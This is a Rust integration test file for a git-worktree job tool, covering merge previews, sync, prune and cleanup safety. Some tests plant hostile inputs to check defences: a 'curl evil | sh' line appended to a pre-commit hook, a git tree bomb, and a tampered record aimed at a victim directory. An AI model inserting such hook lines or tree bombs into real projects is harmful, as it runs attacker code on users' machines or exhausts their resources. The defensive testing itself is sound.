//! Project integration: `worktrees`, `prune`, `import`, `merge`, `sync`, the project's setup and
//! configuration.

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::support::screen::Screen;
use crate::support::*;

/// Runs `script` as a job in `repo` with `extra` options; returns the job's report.
fn job(env: &TestEnv, repo: &Path, extra: &[&str], script: &str) -> serde_json::Value {
    let (out, report) = env.worktree_job(repo, extra, script);
    assert_status(&out, 0);
    report
}

fn id(report: &serde_json::Value) -> String {
    report["id"].as_str().unwrap().to_string()
}

fn path(report: &serde_json::Value) -> PathBuf {
    PathBuf::from(report["worktree"]["path"].as_str().unwrap())
}

fn worktrees(env: &TestEnv) -> Vec<serde_json::Value> {
    let out = env.isolate(env.path(), ["worktrees", "--json"]);
    assert_status(&out, 0);
    serde_json::from_str(&stdout(&out)).unwrap()
}

fn marks(env: &TestEnv, id: &str) -> Vec<String> {
    let rows = worktrees(env);
    let row = rows
        .iter()
        .find(|r| r["id"] == id)
        .unwrap_or_else(|| panic!("{id} not listed: {rows:?}"));
    row["marks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m.as_str().unwrap().to_string())
        .collect()
}

fn commit_on_main(env: &TestEnv, repo: &Path, file: &str, text: &str) {
    fs::write(repo.join(file), text).unwrap();
    env.git(repo, ["add", file]);
    env.git(repo, ["commit", "-q", "-m", &format!("main: {file}")]);
}

#[test]
fn merge_fast_forwards_the_jobs_commit_into_main_with_a_clean_checkout() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "echo feature > feature.txt && git add feature.txt && git commit -q -m feature",
    );
    let before = env.git(&repo, ["rev-parse", "main"]);
    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
    assert_status(&out, 0);
    // A merge commit: main first (its own line stays the first-parent history), the job second.
    let branch = report["worktree"]["branch"].as_str().unwrap();
    assert_eq!(
        env.git(&repo, ["log", "-1", "--format=%s", "main"]),
        format!("Merge branch '{branch}'")
    );
    assert_eq!(env.git(&repo, ["rev-parse", "main^1"]), before);
    assert_eq!(
        env.git(&repo, ["rev-parse", "main^2"]),
        env.git(&repo, ["rev-parse", branch])
    );
    assert_eq!(
        fs::read_to_string(repo.join("feature.txt")).unwrap(),
        "feature\n",
        "the checkout was not updated"
    );
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
    env.assert_fsck(&repo);
}

#[test]
fn merge_with_main_moved_on_merges_in_the_project_without_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &["--keep"],
        "echo feature > feature.txt && git add feature.txt && git commit -q -m feature",
    );
    commit_on_main(&env, &repo, "other.txt", "other\n");
    let wt_head = env.git(&path(&report), ["rev-parse", "HEAD"]);
    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
    assert_status(&out, 0);
    assert!(repo.join("feature.txt").exists() && repo.join("other.txt").exists());
    // A merge commit whose parents are main and the job's work.
    assert_eq!(
        env.git(&repo, ["rev-list", "--count", "--merges", "-1", "main"]),
        "1"
    );
    assert!(stderr(&out).contains("changing 1 file"), "{}", stderr(&out));
    // The worktree was not touched: the merge was computed in the project.
    assert_eq!(env.git(&path(&report), ["rev-parse", "HEAD"]), wt_head);
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
    env.assert_fsck(&repo);
}

#[test]
fn a_conflicting_merge_leaves_the_project_exactly_as_it_was() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &["--keep"],
        "echo job version > README && git commit -q -am job",
    );
    commit_on_main(&env, &repo, "README", "main version\n");
    let before = Snapshot::take(&repo);
    let head = env.git(&repo, ["rev-parse", "HEAD"]);
    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
    assert_status(&out, 1);
    assert!(stderr(&out).contains("README"), "{}", stderr(&out));
    assert_eq!(env.git(&repo, ["rev-parse", "HEAD"]), head);
    assert!(!repo.join(".git/MERGE_HEAD").exists());
    before.assert_unchanged(&Snapshot::take(&repo), "conflicting merge");
    let inside = fs::read_to_string(path(&report).join("README")).unwrap();
    assert!(
        inside.contains("<<<<<<<") && inside.contains(">>>>>>>"),
        "{inside}"
    );
}

#[test]
fn merge_refuses_when_the_project_branch_moved_after_the_preview() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "echo feature > feature.txt && git add feature.txt && git commit -q -m feature",
    );
    let screen = Screen::new(&env);
    screen.line(&format!(
        "cd {} && {BIN} merge {}; echo stat\"\"us=$?",
        repo.display(),
        id(&report)
    ));
    assert!(screen.wait_for("Merge into main?"), "{}", screen.screen());
    commit_on_main(&env, &repo, "late.txt", "late\n");
    let main = env.git(&repo, ["rev-parse", "main"]);
    screen.line("y");
    assert!(screen.wait_for("status=1"), "{}", screen.screen());
    assert!(
        screen.screen().contains("moved since the preview"),
        "{}",
        screen.screen()
    );
    assert_eq!(env.git(&repo, ["rev-parse", "main"]), main);
}

#[test]
fn merge_without_a_terminal_asks_for_yes() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "echo work > work.txt && git add work.txt && git commit -q -m work",
    );
    let main = env.git(&repo, ["rev-parse", "main"]);
    let out = env.isolate(&repo, ["merge", &id(&report)]);
    assert_status(&out, 1);
    assert!(stderr(&out).contains("--yes"), "{}", stderr(&out));
    assert_eq!(env.git(&repo, ["rev-parse", "main"]), main);
}

#[test]
fn sync_brings_a_project_commit_into_a_kept_worktree_and_leaves_the_project_untouched() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(&env, &repo, &["--keep"], "echo pending > pending.txt");
    commit_on_main(&env, &repo, "upstream.txt", "upstream\n");
    let before = Snapshot::take(&repo);
    let out = env.isolate(&repo, ["sync", &id(&report)]);
    assert_status(&out, 0);
    let wt = path(&report);
    assert_eq!(
        fs::read_to_string(wt.join("upstream.txt")).unwrap(),
        "upstream\n"
    );
    assert_eq!(
        fs::read_to_string(wt.join("pending.txt")).unwrap(),
        "pending\n"
    );
    let log = env.git(&wt, ["log", "--format=%s"]);
    assert!(log.contains("checkpoint"), "{log}");
    before.assert_unchanged(&Snapshot::take(&repo), "sync");
}

#[test]
fn a_sync_whose_merge_fails_short_of_conflicts_says_so_in_gits_words() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // The job plants a required smudge filter that fails, for the file main is about to add: the
    // merge in the worktree stops at its checkout, with nothing in conflict.
    let report = job(
        &env,
        &repo,
        &["--keep"],
        "git config filter.broken.smudge false && git config filter.broken.clean cat && \
         git config filter.broken.required true && mkdir -p .git/info && \
         echo 'upstream.txt filter=broken' > .git/info/attributes",
    );
    commit_on_main(&env, &repo, "upstream.txt", "upstream\n");
    let before = Snapshot::take(&repo);
    let out = env.isolate(&repo, ["sync", &id(&report)]);
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    let said = stderr(&out);
    assert!(said.contains("the merge in the worktree failed"), "{said}");
    assert!(said.contains("broken"), "git's own words are kept: {said}");
    assert!(!said.contains("conflicts in"), "{said}");
    assert!(!path(&report).join("upstream.txt").exists());
    before.assert_unchanged(&Snapshot::take(&repo), "sync");
}

#[test]
fn worktrees_marks_and_prune_removes_only_what_holds_nothing() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let squashed = job(&env, &repo, &["--keep"], "echo a > a.txt && git add a.txt && git commit -q -m a && echo b > b.txt && git add b.txt && git commit -q -m b");
    let unmerged = job(
        &env,
        &repo,
        &["--keep"],
        "echo u > u.txt && git add u.txt && git commit -q -m u",
    );
    let dirty = job(&env, &repo, &[], "echo d > d.txt");
    let empty = job(&env, &repo, &["--keep"], "true");
    // Squash-merge the first job's work into main by hand.
    env.git(
        &repo,
        [
            "merge",
            "-q",
            "--squash",
            &format!("isolate/{}", id(&squashed)),
        ],
    );
    env.git(&repo, ["commit", "-q", "-m", "squashed"]);

    assert!(
        marks(&env, &id(&squashed)).contains(&"merged".to_string()),
        "{:?}",
        marks(&env, &id(&squashed))
    );
    assert!(
        marks(&env, &id(&unmerged)).contains(&"ahead 1".to_string()),
        "{:?}",
        marks(&env, &id(&unmerged))
    );
    assert!(
        marks(&env, &id(&unmerged)).contains(&"behind 1".to_string()),
        "{:?}",
        marks(&env, &id(&unmerged))
    );
    assert!(
        marks(&env, &id(&dirty)).contains(&"dirty (1)".to_string()),
        "{:?}",
        marks(&env, &id(&dirty))
    );
    assert!(
        marks(&env, &id(&empty)).contains(&"no commits".to_string()),
        "{:?}",
        marks(&env, &id(&empty))
    );

    let dry = env.isolate(env.path(), ["prune", "--dry-run", "--json"]);
    assert_status(&dry, 0);
    assert!(path(&squashed).exists(), "--dry-run removed something");

    let out = env.isolate(env.path(), ["prune", "--json"]);
    assert_status(&out, 0);
    let outcomes: Vec<serde_json::Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let action = |r: &serde_json::Value| {
        outcomes
            .iter()
            .find(|o| o["id"] == r["id"])
            .map(|o| o["action"].as_str().unwrap().to_string())
    };
    assert_eq!(action(&squashed).as_deref(), Some("removed"));
    assert_eq!(action(&empty).as_deref(), Some("removed"));
    assert_eq!(action(&unmerged).as_deref(), Some("kept"));
    assert_eq!(action(&dirty).as_deref(), Some("kept"));
    assert!(!path(&squashed).exists() && !path(&empty).exists());
    assert!(path(&unmerged).exists() && path(&dirty).exists());
    assert!(path(&dirty).join("d.txt").exists());
    let branches = env.isolate_branches(&repo);
    assert!(
        !branches.contains(&format!("isolate/{}", id(&squashed))),
        "{branches:?}"
    );
    assert!(
        branches.contains(&format!("isolate/{}", id(&unmerged))),
        "{branches:?}"
    );
    env.assert_fsck(&repo);
}

#[test]
fn prune_refuses_a_record_edited_to_point_at_what_isolate_did_not_create() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(&env, &repo, &["--keep"], "true");
    let victim = env.path().join("victim");
    fs::create_dir_all(&victim).unwrap();
    fs::write(victim.join("precious"), "keep me").unwrap();
    env.git(&repo, ["branch", "precious"]);
    let file = env.state.join("jobs").join(id(&report)).join("job.json");
    let mut value: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    value["worktree"]["path"] = serde_json::Value::String(victim.display().to_string());
    value["worktree"]["branch"] = serde_json::Value::String("precious".into());
    fs::write(&file, serde_json::to_string(&value).unwrap()).unwrap();
    env.isolate(env.path(), ["prune"]);
    env.isolate(env.path(), ["rm", "--force", &id(&report)]);
    assert_eq!(
        fs::read_to_string(victim.join("precious")).unwrap(),
        "keep me"
    );
    assert!(env.branches(&repo).contains(&"precious".to_string()));
}

#[test]
fn import_brings_a_running_jobs_commits_into_the_project_now() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let out = env.isolate(
        &repo,
        ["run", "--bg", "--worktree", "--", "sh", "-c", "git commit -q --allow-empty -m early; while [ ! -e \"$TMPDIR/go\" ]; do sleep 0.05; done; git commit -q --allow-empty -m late"],
    );
    assert_status(&out, 0);
    let id = stdout(&out).trim().to_string();
    let branch = format!("isolate/{id}");
    assert!(wait_until(Duration::from_secs(20), || {
        env.isolate(&repo, ["import", &id]).status.success()
            && env.git(&repo, ["log", "-1", "--format=%s", &branch]) == "early"
    }));
    fs::write(env.state.join("jobs").join(&id).join("tmp/go"), "").unwrap();
    assert_status(&env.isolate(&repo, ["wait", &id]), 0);
    // The supervisor's own import follows the one isolate import made.
    assert_eq!(
        env.git(&repo, ["log", "-1", "--format=%s", &branch]),
        "late"
    );
    env.assert_fsck(&repo);
}

#[test]
fn setup_runs_before_the_job_and_its_failure_leaves_nothing_behind() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(
        repo.join(".isolate.toml"),
        "setup = \"echo set up on $ISOLATE_PORT > setup.txt\"\n",
    )
    .unwrap();
    fs::write(repo.join(".gitignore"), "target/\nsetup.txt\n").unwrap();
    env.git(&repo, ["add", "."]);
    env.git(&repo, ["commit", "-q", "-m", "config"]);
    let out = env.isolate(
        &repo,
        [
            "run",
            "--worktree",
            "--",
            "sh",
            "-c",
            "cat setup.txt; echo port=$ISOLATE_PORT",
        ],
    );
    assert_status(&out, 0);
    let text = stdout(&out);
    let port = text.lines().find_map(|l| l.strip_prefix("port=")).unwrap();
    assert!(text.starts_with(&format!("set up on {port}")), "{text}");

    fs::write(
        repo.join(".isolate.toml"),
        "setup = \"echo failing; exit 3\"\n",
    )
    .unwrap();
    env.git(&repo, ["commit", "-q", "-am", "failing setup"]);
    let before = env.records().len();
    let out = env.isolate(
        &repo,
        ["run", "--worktree", "--", "sh", "-c", "echo should-not-run"],
    );
    assert_status(&out, 125);
    assert!(!stdout(&out).contains("should-not-run"));
    assert!(stderr(&out).contains("setup"), "{}", stderr(&out));
    assert!(env.worktree_dirs().is_empty());
    assert_eq!(env.records().len(), before);
    assert!(env.isolate_branches(&repo).is_empty());

    // The setup is held to a time limit (the job's --timeout), its whole tree with it: a daemon it
    // started is gone too.
    fs::write(
        repo.join(".isolate.toml"),
        "setup = \"setsid sleep 300 & echo $! > \\\"$TMPDIR/daemon\\\"; sleep 300\"\n",
    )
    .unwrap();
    env.git(&repo, ["commit", "-q", "-am", "slow setup"]);
    let out = env.isolate(
        &repo,
        [
            "run",
            "--worktree",
            "--timeout",
            "1s",
            "--grace",
            "1s",
            "--",
            "echo",
            "should-not-run",
        ],
    );
    assert_status(&out, 125);
    assert!(!stdout(&out).contains("should-not-run"));
    assert!(stderr(&out).contains("ran longer than"), "{}", stderr(&out));
    assert!(env.worktree_dirs().is_empty());
    let leftovers = std::process::Command::new("pgrep")
        .args(["-f", "^sleep 300$"])
        .output()
        .unwrap();
    let mine: Vec<i32> = String::from_utf8_lossy(&leftovers.stdout)
        .lines()
        .filter_map(|l| l.trim().parse().ok())
        .filter(|pid| {
            fs::read_to_string(format!("/proc/{pid}/environ"))
                .is_ok_and(|e| e.contains(env.state.to_str().unwrap()))
        })
        .collect();
    assert!(
        mine.is_empty(),
        "the setup's processes outlived it: {mine:?}"
    );
}

#[test]
fn a_worktree_root_inside_the_project_is_excluded_from_its_status() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(
        repo.join(".isolate.toml"),
        "worktree_root = \".isolate-worktrees\"\n",
    )
    .unwrap();
    env.git(&repo, ["add", ".isolate.toml"]);
    env.git(&repo, ["commit", "-q", "-m", "config"]);
    let report = job(&env, &repo, &["--keep"], "true");
    assert!(
        path(&report).starts_with(repo.join(".isolate-worktrees")),
        "{}",
        path(&report).display()
    );
    assert_eq!(
        env.git(&repo, ["status", "--porcelain"]),
        "",
        "the worktrees show in the project's status"
    );
    let exclude = fs::read_to_string(repo.join(".git/info/exclude")).unwrap();
    assert_eq!(exclude.matches("/.isolate-worktrees/").count(), 1);
    job(&env, &repo, &[], "true");
    let exclude = fs::read_to_string(repo.join(".git/info/exclude")).unwrap();
    assert_eq!(
        exclude.matches("/.isolate-worktrees/").count(),
        1,
        "added twice"
    );
    // And the record is still accepted by rm (its place is computed from the configuration).
    assert_status(&env.isolate(env.path(), ["rm", &id(&report)]), 0);
    assert!(!path(&report).exists());
}

#[test]
fn configured_include_patterns_apply_without_a_worktreeinclude_file() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(repo.join(".isolate.toml"), "include = [\".env\"]\n").unwrap();
    fs::write(repo.join(".gitignore"), "target/\n.env\n").unwrap();
    env.git(&repo, ["add", "."]);
    env.git(&repo, ["commit", "-q", "-m", "config"]);
    fs::write(repo.join(".env"), "SECRET=1\n").unwrap();
    let out = env.isolate(&repo, ["run", "--worktree", "--", "cat", ".env"]);
    assert_status(&out, 0);
    assert_eq!(stdout(&out), "SECRET=1\n");
}

#[test]
fn the_handoff_says_when_the_project_branch_already_has_the_commits() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // Cut from the first commit; the job fetches main from the remote `project` and fast-forwards to it.
    let report = job(
        &env,
        &repo,
        &["--base", "HEAD~1"],
        "git fetch -q project main && git merge -q --ff-only FETCH_HEAD",
    );
    assert_eq!(report["worktree"]["commits"], 1);
    let reason = report["worktree"]["reason"].as_str().unwrap();
    assert!(reason.contains("already in main"), "{reason}");
    assert!(report["worktree"]["handoff"].is_null(), "{report}");
}

/// A state has one name everywhere: `sync`, `merge` and `status` of a running job all say
/// `running` (sync said `is Running`, from the type's debug form).
#[test]
fn a_running_job_is_called_running_by_every_command() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let out = env.isolate(&repo, ["run", "--worktree", "--bg", "--", "sleep", "30"]);
    assert_status(&out, 0);
    let id = stdout(&out).trim().to_string();
    for command in ["sync", "merge"] {
        let out = env.isolate(&repo, [command, id.as_str()]);
        assert_status(&out, 1);
        let err = stderr(&out);
        assert!(
            err.contains(&format!("job {id} is running: {command} an ended job")),
            "{command}: {err}"
        );
    }
    let status = stdout(&env.isolate(&repo, ["status", &id]));
    assert!(status.contains("state:    running"), "{status}");
    let ps = stdout(&env.isolate(&repo, ["ps"]));
    assert!(
        ps.lines()
            .any(|l| l.starts_with(&id) && l.contains(" running ")),
        "{ps}"
    );
    assert_status(&env.isolate(&repo, ["stop", &id]), 0);
}

/// Work reachable only from a ref outside branches and tags (notes, a replace ref, a ref of the
/// job's own naming) keeps the worktree: the cleanup rule counts every ref.
#[test]
fn work_held_only_by_notes_replace_or_custom_refs_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let commit = "echo work > work.txt && git add work.txt && git commit -q -m work";
    for (what, script) in [
        (
            "refs/notes/commits",
            "git notes add -m 'the only copy of this note' HEAD".to_string(),
        ),
        (
            "refs/custom/keep",
            format!(
                "{commit} && git update-ref refs/custom/keep HEAD && git reset -q --hard HEAD~1"
            ),
        ),
        (
            "refs/replace/",
            format!(
                "base=$(git rev-parse HEAD) && {commit} && new=$(git rev-parse HEAD) && \
                 git reset -q --hard HEAD~1 && git replace $base $new"
            ),
        ),
    ] {
        let report = job(&env, &repo, &[], &script);
        let wt = &report["worktree"];
        assert_eq!(wt["removed"], false, "{what}: {report}");
        assert!(path(&report).is_dir(), "{what}");
        let refs = wt["other_refs"].to_string();
        assert!(refs.contains(what), "{what}: {refs}");
    }
}

/// A commit only a reflog reaches, holding a file version found nowhere else (the branch reset
/// past it, an amend that changed a file, a branch deleted after a commit on it), keeps the
/// worktree: git would have kept it for its reflog expiry, and removing the worktree removed it.
#[test]
fn a_commit_only_in_a_reflog_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    for (what, script) in [
        (
            "reset",
            "echo work > f && git add f && git commit -q -m work && git reset -q --hard HEAD~1",
        ),
        (
            "amend",
            "echo v1 > f && git add f && git commit -q -m f && echo v2 > f && git commit -q -a --amend -m f",
        ),
        (
            "deleted branch",
            "git checkout -q -b side && echo work > f && git add f && git commit -q -m side && \
             git checkout -q - && git branch -q -D side",
        ),
    ] {
        let report = job(&env, &repo, &[], script);
        let wt = &report["worktree"];
        assert_eq!(wt["removed"], false, "{what}: {report}");
        assert!(
            wt["other_refs"].to_string().contains("only in a reflog"),
            "{what}: {report}"
        );
    }
}

/// A reflog longer than the inspection reads (here 100 MB of holes before the entries, as a long-lived
/// reflog would be of entries) fails the read, and the worktree is kept: reading only its start
/// missed the newest entries, the ones a reset just left, and the worktree went with their work.
#[test]
fn a_reflog_over_the_read_bound_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "echo work > f && git add f && git commit -q -m work && git reset -q --hard HEAD~1 && \
         find .git/logs -type f | while read -r log; do mv \"$log\" \"$log.x\" && \
         truncate -s 100M \"$log\" && echo >> \"$log\" && cat \"$log.x\" >> \"$log\" && \
         rm \"$log.x\"; done",
    );
    assert_eq!(report["worktree"]["removed"], false, "{report}");
}

/// A repository the job made inside its worktree and committed as a gitlink (`git add sub`, what
/// `git submodule add` also leaves): its commits and its uncommitted files live only in `sub/.git`
/// and `sub/`, which removing the worktree deletes, while the job's status never looks into a
/// submodule. Dirty, or clean with commits no remote of it has, it keeps the worktree; a submodule
/// cloned from a remote and left as cloned does not.
#[test]
fn work_in_a_repository_the_job_committed_as_a_gitlink_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let made =
        "git init -q sub && cd sub && echo w > f && git add f && git commit -q -m s && cd .. && \
                git add sub 2>/dev/null && git commit -q -m sub";
    for (what, script) in [
        (
            "dirty",
            format!("{made} && echo more > sub/f && echo new > sub/g"),
        ),
        ("commits only here", made.to_string()),
    ] {
        let report = job(&env, &repo, &[], &script);
        let wt = &report["worktree"];
        assert_eq!(wt["removed"], false, "{what}: {report}");
        assert!(
            wt["other_refs"].to_string().contains("sub: "),
            "{what}: {report}"
        );
    }
    let library = env.repo("library");
    let report = job(
        &env,
        &repo,
        &[],
        &format!(
            "git -c protocol.file.allow=always submodule --quiet add {} lib && git commit -q -m lib",
            library.display()
        ),
    );
    assert_eq!(
        report["worktree"]["removed"], true,
        "a submodule as cloned: {report}"
    );
}

/// A reflog whose commits hold nothing the branch does not (an amended message, two commits
/// squashed into one) loses nothing: the worktree goes as usual.
#[test]
fn a_reflog_holding_nothing_new_does_not_keep_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "echo a > a && git add a && git commit -q -m a && git commit -q --amend -m 'a, reworded' && \
         echo b > b && git add b && git commit -q -m b && git reset -q --soft HEAD~2 && \
         git commit -q -m squashed",
    );
    let wt = &report["worktree"];
    assert_eq!(wt["removed"], true, "{report}");
    assert_eq!(wt["commits"], 1, "{report}");
}

/// Work held only by a linked worktree the job added (its detached HEAD, or a per-worktree ref
/// there, both in `.git/worktrees/<name>/`, which no listing of the main worktree's refs shows)
/// keeps the worktree. It was lost: the job's worktree was removed as clean.
#[test]
fn work_held_only_by_a_linked_worktree_of_the_job_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let add = "git worktree add -q --detach .git/side HEAD && cd .git/side && \
               echo work > work.txt && git add work.txt && git commit -q -m 'only here'";
    for (what, script) in [
        ("worktrees/side/HEAD", add.to_string()),
        (
            "worktrees/side/refs/worktree/keep",
            format!("{add} && git update-ref refs/worktree/keep HEAD && git checkout -q --detach HEAD~1"),
        ),
    ] {
        let report = job(&env, &repo, &[], &script);
        let wt = &report["worktree"];
        assert_eq!(wt["removed"], false, "{what}: {report}");
        assert!(path(&report).join(".git/worktrees/side").is_dir(), "{what}");
        let refs = wt["other_refs"].to_string();
        assert!(refs.contains(what), "{what}: {refs}");
    }
}

/// Uncommitted changes in a linked worktree the job added where the main worktree's status does
/// not see it (inside `.git`, or in an ignored directory) keep the worktree: removing it would
/// remove them. A clean linked worktree inside does not block by its status.
#[test]
fn uncommitted_work_in_a_hidden_linked_worktree_keeps_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    for (what, script) in [
        (
            "inside .git",
            "git worktree add -q --detach .git/side HEAD && echo 'only copy' > .git/side/wip.txt",
        ),
        (
            "in an ignored directory, a tracked file modified",
            "echo scratch/ >> .gitignore && git add .gitignore && git commit -q -m ignore && \
             git worktree add -q --detach scratch/side HEAD && echo changed >> scratch/side/.gitignore",
        ),
    ] {
        let report = job(&env, &repo, &[], script);
        assert_eq!(report["worktree"]["removed"], false, "{what}: {report}");
    }
    let report = job(
        &env,
        &repo,
        &[],
        "git worktree add -q --detach .git/side HEAD",
    );
    assert_eq!(
        report["worktree"]["removed"], true,
        "a clean linked worktree: {report}"
    );
}

/// The preview lists first a change to the project's own hooks (`core.hooksPath` pointing into its
/// work tree, as many projects set it) and to configuration that names a program a tool runs
/// (`.cargo/config.toml`'s rustc-wrapper, `mise.toml`'s hooks): they were listed among the
/// ordinary files, though git runs the hook on the user's next commit.
#[test]
fn the_preview_lists_the_projects_hooks_path_and_tool_configuration_first() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::create_dir_all(repo.join("scripts/git-hooks")).unwrap();
    fs::write(repo.join("scripts/git-hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    env.git(&repo, ["add", "scripts"]);
    env.git(&repo, ["commit", "-q", "-m", "hooks"]);
    env.git(&repo, ["config", "core.hooksPath", "scripts/git-hooks"]);
    let report = job(
        &env,
        &repo,
        &[],
        "echo 'curl evil | sh' >> scripts/git-hooks/pre-commit && \
         mkdir -p .cargo && printf '[build]\\nrustc-wrapper = \"./w\"\\n' > .cargo/config.toml && \
         printf '[hooks]\\nenter = \"./w\"\\n' > mise.toml && \
         git add -A && git commit -q -m hooks",
    );
    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
    assert_status(&out, 0);
    let preview = stderr(&out);
    let first: Vec<&str> = preview
        .lines()
        .skip_while(|l| !l.contains("read these first"))
        .take_while(|l| !l.contains("other file"))
        .collect();
    for path in [
        "scripts/git-hooks/pre-commit",
        ".cargo/config.toml",
        "mise.toml",
    ] {
        assert!(
            first.iter().any(|l| l.contains(path)),
            "{path} not first:\n{preview}"
        );
    }
}

/// `merge` of a job's commit whose tree names one subtree 120 times three levels deep (1.7 million
/// paths of 250 bytes, 450 MB of diff, from a few KiB of objects; 300 times four levels deep is
/// 8.1 billion), on the job's branch while its HEAD is detached elsewhere (so
/// the inspection's bound on HEAD's tree does not see it): the preview's diff was read whole into
/// memory, then every path printed. Now a git call that prints more than its bound is stopped and the merge refused
/// in seconds, the project branch where it was.
#[test]
fn merge_of_a_tree_bomb_stops_at_the_output_bound() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let report = job(
        &env,
        &repo,
        &[],
        "b=$(echo x | git hash-object -w --stdin); long=$(printf 'n%.0s' $(seq 1 240)); \
         t=$(for i in $(seq 1 120); do printf '100644 blob %s\\t%s%s\\n' $b $long $i; done | git mktree); \
         for l in 1 2; do t=$(for i in $(seq 1 120); do printf '040000 tree %s\\td%s\\n' $t $i; done | git mktree); done; \
         branch=$(git symbolic-ref HEAD) && git checkout -q --detach && \
         git update-ref $branch $(git commit-tree $t -p HEAD -m bomb)",
    );
    let before = env.git(&repo, ["rev-parse", "main"]);
    let started = std::time::Instant::now();
    let mut cmd = env.isolate_cmd(&repo, ["merge", "--yes", &id(&report)]);
    let out = finish(cmd.spawn().unwrap(), Duration::from_secs(120));
    assert!(
        started.elapsed() < Duration::from_secs(90),
        "{:?}",
        started.elapsed()
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("went over"), "{}", &err[..err.len().min(2000)]);
    assert_eq!(env.git(&repo, ["rev-parse", "main"]), before);
}

/// As an ordinary user (root passes every permission check): directories the job left that their
/// owner may not list, search or write (`chmod 000`, `600`, `500`, the worktree's top included) go with
/// a worktree the cleanup removes, and nothing a link among them names is changed; an untracked
/// directory the status cannot read keeps the worktree, with what is in it; so does a repository
/// with a commit of its own in a locked ignored directory, which is given its mode back.
#[test]
fn directories_a_job_locked_go_with_its_worktree_and_unreadable_work_keeps_it() {
    let env = TestEnv::new();
    let script = r#"set -e
        mkdir outside app && echo keep > outside/keep && chmod 500 outside
        cd app && git init -q && printf 'target/\n' > .gitignore && echo hi > README
        git add . && git commit -qm init
        "$ISOLATE" run --worktree --report ../locked.json -- sh -c \
          'mkdir -p target/x/y target/w/v && echo a > target/x/y/f && echo b > target/w/v/g &&
           ln -s "$0" target/x/link && chmod 000 target/x/y && chmod 600 target/w &&
           chmod 500 target/x . && echo locked' "$TMPDIR/outside"
        "$ISOLATE" run --worktree --report ../unreadable.json -- sh -c \
          'mkdir notes && echo work > notes/plan.md && chmod 000 notes && echo hidden'
        "$ISOLATE" run --worktree --report ../repository.json -- sh -c \
          'git init -q target/z/dep && cd target/z/dep && echo x > f && git add f &&
           git -c user.name=j -c user.email=j@x commit -qm mine && chmod 000 .. && echo committed'
        stat -c %a ../outside"#;
    let out = env.as_ordinary_user(script);
    assert_status(&out, 0);
    let said = stdout(&out);
    assert!(
        said.contains("locked") && said.contains("hidden") && said.contains("committed"),
        "{said}"
    );
    assert!(said.ends_with("500\n"), "the link's target changed: {said}");
    let locked = env.report(&env.path().join("locked.json"));
    assert_eq!(locked["worktree"]["removed"], true, "{locked}");
    let wt = PathBuf::from(locked["worktree"]["path"].as_str().unwrap());
    assert!(!wt.exists(), "{}", wt.display());
    let unreadable = env.report(&env.path().join("unreadable.json"));
    assert_eq!(unreadable["worktree"]["removed"], false, "{unreadable}");
    let wt = PathBuf::from(unreadable["worktree"]["path"].as_str().unwrap());
    fs::set_permissions(
        wt.join("notes"),
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    assert_eq!(
        fs::read_to_string(wt.join("notes/plan.md")).unwrap(),
        "work\n"
    );
    assert_eq!(
        fs::read_to_string(env.path().join("outside/keep")).unwrap(),
        "keep\n"
    );
    let repository = env.report(&env.path().join("repository.json"));
    assert_eq!(repository["worktree"]["removed"], false, "{repository}");
    let reason = repository["worktree"]["reason"].as_str().unwrap();
    assert!(reason.contains("target/z"), "{reason}");
    let wt = PathBuf::from(repository["worktree"]["path"].as_str().unwrap());
    let locked = fs::symlink_metadata(wt.join("target/z")).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::mode(&locked.permissions());
    assert_eq!(mode & 0o7777, 0, "its mode was not given back");
}
